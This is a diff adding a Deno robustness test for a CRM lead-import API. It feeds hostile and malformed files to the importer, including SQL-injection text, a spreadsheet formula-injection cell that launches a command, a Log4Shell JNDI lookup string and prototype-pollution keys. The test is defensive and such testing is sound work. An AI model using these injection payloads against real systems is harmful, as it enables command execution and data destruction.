@@ -308,3 +308,108 @@ Deno.test("who may not, may not: at the start, at a look, and again at the commi
     assertEquals([event!["source"], event!["cause_kind"]], ["sync:erp", "import"]);
   });
 });
+
+Deno.test("hostile files: every row gets a verdict, nothing breaks, and what is written is what is said", async (t) => {
+  await using stack = await startTestStack();
+  await using sql = openSql(stack);
+  const steward = await apiAs(stack, "steward@harbor-lane.example.com");
+  const text = (content: string) => new TextEncoder().encode(content);
+  const files: [string, Uint8Array][] = [
+    ["binary", crypto.getRandomValues(new Uint8Array(50_000))],
+    ["zeros", new Uint8Array(5_000)],
+    ["a NUL in a cell", text("last_name,company\nL\0ee,Acme\nRay,Acme\n")],
+    ["quotes that never end", text('last_name,company\n"Lee,Acme\n' + "x,y\n".repeat(5_000))],
+    ["one endless line", text("last_name," + "x".repeat(900_000))],
+    [
+      "thousands of columns",
+      text(Array.from({ length: 5_000 }, (_, n) => `c${n}`).join() + "\n" + ",".repeat(4_999) + "\n"),
+    ],
+    [
+      "a header of hostile names",
+      text('"last_name","\'; drop table leads; --","a\nb","%s","$1"\nLee,1,2,3,4\n'),
+    ],
+    ["the same name again and again", text("last_name,last_name,last_name\nLee,Ray,Orr\n")],
+    [
+      "hostile cells",
+      text(
+        "last_name,email,status,postal_code\n" +
+          ["=cmd|' /C calc'!A0", "${jndi:ldap://x}", "\u202e", "x".repeat(50_000), "'; --"].map((cell) =>
+            `"${cell}","${cell}","${cell}","${cell}"`
+          ).join("\n"),
+      ),
+    ],
+    [
+      "deep NDJSON",
+      text(
+        '{"last_name":"Lee","company":' + "[".repeat(5_000) + "]".repeat(5_000) +
+          '}\n{"last_name":{"a":1},"company":[1]}\n',
+      ),
+    ],
+    [
+      "keys of the prototype",
+      text('{"__proto__":{"x":1},"constructor":1,"last_name":"Lee"}\n{"last_name":1e400}\n'),
+    ],
+    [
+      "UTF-16 cut in half",
+      new Uint8Array([0xff, 0xfe, ...[...text("l,c\n")].flatMap((byte) => [byte, 0]), 0x3d, 0xd8, 0x41]),
+    ],
+    ["commas only", text(",,,,\n,,,,\n")],
+  ];
+  const mapping = {
+    columns: [{ column: "last_name", field: "last_name" }, { column: "company", field: "company" }],
+  };
+  for (const [name, bytes] of files) {
+    await t.step(name, async () => {
+      const count = async () => Number((await sql`select count(*) from public.leads`)[0]!["count"]);
+      const before = await count();
+      const started = await steward.post("/imports", {
+        org_id: harborLane,
+        entity_type: "lead",
+        file_name: name,
+      });
+      const id: string = started.body.import_id;
+      const staged = await sendFile(steward, id, bytes, 200_000);
+      assert(staged.status < 500, JSON.stringify(staged.body));
+      const [whole] =
+        await sql`select i.row_count, i.status, (select count(*) from governance.import_rows w where w.import_id = i.import_id) as rows from governance.imports i where import_id = ${id}`;
+      assertEquals(whole!["row_count"], whole!["rows"]);
+      if (staged.status !== 200) return assertEquals(await count(), before);
+      if (staged.body.mapping.columns.length === 0) {
+        const columns = [{ column: staged.body.columns.at(-1), field: "last_name" }];
+        const init = {
+          method: "PATCH",
+          body: JSON.stringify({ mapping: { ...mapping, columns } }),
+          headers: { "content-type": "application/json" },
+        };
+        assertEquals((await steward.send(`/imports/${id}`, init)).status, 200);
+      }
+      await judge(steward, id);
+      assertEquals(await count(), before, "a dry run writes nothing");
+      const { counts, row_count } = await commit(steward, id);
+      assertEquals(
+        Object.values(counts.states as Record<string, number>).reduce((sum, n) => sum + n, 0),
+        row_count,
+      );
+      assertEquals(await count(), before + (counts.states.written ?? 0));
+    });
+  }
+  await t.step("a chunk that is too large is refused as such, and nothing of it stays", async () => {
+    const started = await steward.post("/imports", {
+      org_id: harborLane,
+      entity_type: "lead",
+      file_name: "huge.csv",
+    });
+    const huge = await steward.send(`/imports/${started.body.import_id}/chunks/0`, {
+      method: "PUT",
+      body: "a,b\n".repeat(300_000),
+    });
+    assertEquals([huge.status, huge.body.context.limit_bytes], [413, 1_000_000]);
+    assertEquals((await steward.get(`/imports/${started.body.import_id}`)).body.row_count, 0);
+    const json = await steward.send(`/imports/${started.body.import_id}/chunks/0`, {
+      method: "PUT",
+      body: "{}",
+      headers: { "content-type": "application/json" },
+    });
+    assertEquals(json.status, 415);
+  });
+});
